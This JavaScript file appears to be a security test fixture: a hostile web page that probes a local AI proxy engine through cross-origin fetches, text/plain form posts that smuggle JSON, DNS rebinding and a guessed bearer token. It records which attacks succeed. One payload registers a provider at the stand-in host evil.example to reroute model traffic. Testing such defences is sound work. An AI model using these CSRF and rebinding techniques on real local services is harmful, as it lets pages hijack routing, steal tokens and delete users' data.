// The attacker's page script (served by hostile.mjs from another origin, or from a
// DNS-rebinding name on the engine's own port). It tries every way a web page has to read from
// or change the local engine, and records what happened in `window.__results`.
(async () => {
  const q = new URLSearchParams(location.search);
  const port = q.get("engine");
  const callId = q.get("call") ?? "none";
  const sameOrigin = q.get("rebind") === "1";
  const bases = [`http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://0.0.0.0:${port}`, `http://[::1]:${port}`];
  if (sameOrigin) bases.unshift("");
  const results = [];
  const note = (base, name, outcome, status = 0, body = "") => results.push({ base: base || location.origin, name, outcome, status, body: body.slice(0, 300) });
  const provider = JSON.stringify({ name: "evil", kind: "openai", baseUrl: "https://evil.example/v1", key: null, reasoningContent: null, maxCompletionTokens: null });
  const chat = JSON.stringify({ model: "oa-model", messages: [{ role: "user", content: "exfiltrate" }] });
  const guess = { Authorization: "Bearer " + "0".repeat(64) };

  async function attempt(base, name, path, init) {
    const ctl = new AbortController();
    const timer = setTimeout(() => ctl.abort(), 5000);
    try {
      const r = await fetch(base + path, { ...init, signal: ctl.signal, credentials: "include" });
      if (r.type === "opaque" || r.type === "opaqueredirect") return note(base, name, "opaque", r.status);
      const text = await r.text();
      note(base, name, "readable", r.status, text);
    } catch (e) {
      note(base, name, "error", 0, String(e));
    } finally {
      clearTimeout(timer);
    }
  }

  function form(base, name, path, body) {
    return new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.name = `f${results.length}${Math.random().toString(16).slice(2)}`;
      document.body.appendChild(frame);
      const f = document.createElement("form");
      f.method = "POST";
      f.enctype = "text/plain";
      f.action = base + path;
      f.target = frame.name;
      // text/plain forms send `name=value`: split the JSON at a string so the body parses.
      const i = body.lastIndexOf("}");
      const input = document.createElement("input");
      input.name = body.slice(0, i) + ', "pad": "';
      input.value = '"}';
      f.appendChild(input);
      document.body.appendChild(f);
      let done = false;
      const finish = () => {
        if (done) return;
        done = true;
        try {
          const text = frame.contentDocument?.body?.innerText ?? "";
          note(base, name, "readable", 0, text);
        } catch (e) {
          note(base, name, "error", 0, String(e));
        }
        resolve();
      };
      frame.addEventListener("load", () => setTimeout(finish, 50));
      setTimeout(finish, 4000);
      f.submit();
    });
  }

  function element(base, name, tag, path) {
    return new Promise((resolve) => {
      const el = document.createElement(tag);
      const done = (outcome) => {
        note(base, name, outcome);
        resolve();
      };
      el.onload = () => done("loaded");
      el.onerror = () => done("error");
      setTimeout(() => done("timeout"), 4000);
      el.src = base + path;
      document.body.appendChild(el);
    });
  }

  function frame(base, name, path) {
    return new Promise((resolve) => {
      const f = document.createElement("iframe");
      let done = false;
      const finish = () => {
        if (done) return;
        done = true;
        try {
          note(base, name, "readable", 0, f.contentDocument?.documentElement?.outerHTML ?? "");
        } catch (e) {
          note(base, name, "error", 0, String(e));
        }
        resolve();
      };
      f.onload = () => setTimeout(finish, 50);
      setTimeout(finish, 4000);
      f.src = base + path;
      document.body.appendChild(f);
    });
  }

  for (const base of bases) {
    // Reads.
    await attempt(base, "GET / (the UI, which holds the token)", "/", {});
    await attempt(base, "GET /api/status", "/api/status", {});
    await attempt(base, "GET /api/providers with a guessed token (preflighted)", "/api/providers", { headers: guess });
    await attempt(base, "GET /api/providers no-cors", "/api/providers", { mode: "no-cors" });
    await attempt(base, "GET /v1/models", "/v1/models", {});
    // Simple cross-site writes (no preflight): text/plain bodies.
    await attempt(base, "POST /api/providers text/plain", "/api/providers", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: provider });
    await attempt(base, "POST /api/clients/claudeCode/route text/plain", "/api/clients/claudeCode/route", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" });
    await attempt(base, "POST /api/clients/env/route text/plain", "/api/clients/env/route", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" });
    await attempt(base, "POST /api/ca/uninstall text/plain", "/api/ca/uninstall", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" });
    await attempt(base, "POST /v1/chat/completions text/plain", "/v1/chat/completions", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: chat });
    await attempt(base, "POST /v1/messages text/plain", "/v1/messages", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: chat });
    // Preflighted writes.
    const json = { "Content-Type": "application/json", ...guess };
    await attempt(base, "POST /api/providers JSON", "/api/providers", { method: "POST", headers: json, body: provider });
    await attempt(base, "PUT /api/routing JSON", "/api/routing", { method: "PUT", headers: json, body: JSON.stringify({ mode: "local" }) });
    await attempt(base, "PUT /api/retention JSON", "/api/retention", { method: "PUT", headers: json, body: JSON.stringify({ days: 1 }) });
    await attempt(base, "DELETE /api/calls/{id}", `/api/calls/${callId}`, { method: "DELETE", headers: json });
    await attempt(base, "DELETE /api/providers/oa", "/api/providers/oa", { method: "DELETE", headers: json });
    await attempt(base, "POST /v1/chat/completions JSON", "/v1/chat/completions", { method: "POST", headers: { "Content-Type": "application/json" }, body: chat });
    // Forms (text/plain with a JSON body), images, scripts, frames.
    await form(base, "form POST /api/providers", "/api/providers", provider);
    await form(base, "form POST /api/routing", "/api/routing", JSON.stringify({ mode: "local" }));
    await form(base, "form POST /v1/chat/completions", "/v1/chat/completions", chat);
    await element(base, "img /api/providers", "img", "/api/providers");
    await element(base, "img /api/status", "img", "/api/status");
    await element(base, "script /api/status", "script", "/api/status");
    await element(base, "script /api/providers", "script", "/api/providers");
    await frame(base, "iframe / (the UI)", "/");
  }
  window.__results = results;
  window.__done = true;
})();
